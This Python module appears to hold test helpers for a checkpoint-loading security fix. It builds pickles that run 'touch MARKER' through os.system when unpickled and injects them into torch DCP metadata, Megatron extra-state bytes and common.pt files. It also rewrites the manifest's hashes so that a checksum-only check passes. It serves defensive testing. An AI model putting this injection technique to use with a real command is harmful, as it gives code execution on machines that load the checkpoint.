"""What an attacker writes into a checkpoint: pickles that run ``touch MARKER`` when unpickled and then are the value
the loader expected, so that a loader that runs them goes on as if nothing happened (issue 33). And the re-hashed
manifest that makes such a checkpoint pass a checksum-only check. Plain pickle / torch / hashlib only: the same
helpers work against the code before and after the change."""

from __future__ import annotations

import hashlib
import json
import operator
import os
import pickle
import shlex
from pathlib import Path

import torch


class Call:
    """Pickles as ``fn(*args)``."""

    def __init__(self, fn, *args):
        self.fn, self.args = fn, args

    def __reduce__(self):
        return self.fn, self.args


def touching(marker: Path, value):
    """Unpickled: runs ``touch marker`` (``posix.system``), then is ``value``."""
    return Call(operator.getitem, (Call(os.system, f"touch {shlex.quote(str(marker))}"), value), 1)


def inject_metadata(step_dir: Path, sub: str, marker: Path) -> None:
    """``<sub>/.metadata`` (torch DCP's metadata, read with pickle.load) with the payload around the real one."""
    path = step_dir / sub / ".metadata"
    metadata = pickle.loads(path.read_bytes())
    path.write_bytes(pickle.dumps(touching(marker, metadata)))


def inject_extra_state(step_dir: Path, marker: Path) -> str:
    """The first ``_extra_state`` byte item of ``model/`` (read with torch.load(weights_only=False)) replaced by a
    payload that is None (what Megatron's local layers store there): appended to its .distcp file, the metadata
    pointed at it. Returns the item's key."""
    from torch.distributed.checkpoint.metadata import BytesStorageMetadata

    model = step_dir / "model"
    metadata = pickle.loads((model / ".metadata").read_bytes())
    index, info = next((i, s) for i, s in sorted(metadata.storage_data.items(), key=lambda kv: kv[0].fqn)
                       if "_extra_state" in i.fqn
                       and isinstance(metadata.state_dict_metadata[i.fqn], BytesStorageMetadata))
    buffer = __import__("io").BytesIO()
    torch.save(touching(marker, None), buffer)
    shard = model / info.relative_path
    info.offset, info.length = shard.stat().st_size, len(buffer.getvalue())
    with open(shard, "ab") as f:
        f.write(buffer.getvalue())
    (model / ".metadata").write_bytes(pickle.dumps(metadata))
    return index.fqn


def inject_common(step_dir: Path, sub: str, marker: Path) -> None:
    """``<sub>/common.pt`` (Megatron: torch.load without weights_only) with the payload around the real value."""
    path = step_dir / sub / "common.pt"
    value = torch.load(path, weights_only=True)
    torch.save(touching(marker, value), path)


def rehash(step_dir: Path) -> None:
    """Rewrite the size and SHA-256 of every file the manifest lists, as an attacker without the key can."""
    path = step_dir / "manifest.json"
    manifest = json.loads(path.read_text())
    for rel, entry in manifest["files"].items():
        data = (step_dir / rel).read_bytes()
        entry.update(size=len(data), sha256=hashlib.sha256(data).hexdigest())
    path.write_text(json.dumps(manifest, indent=1) + "\n")
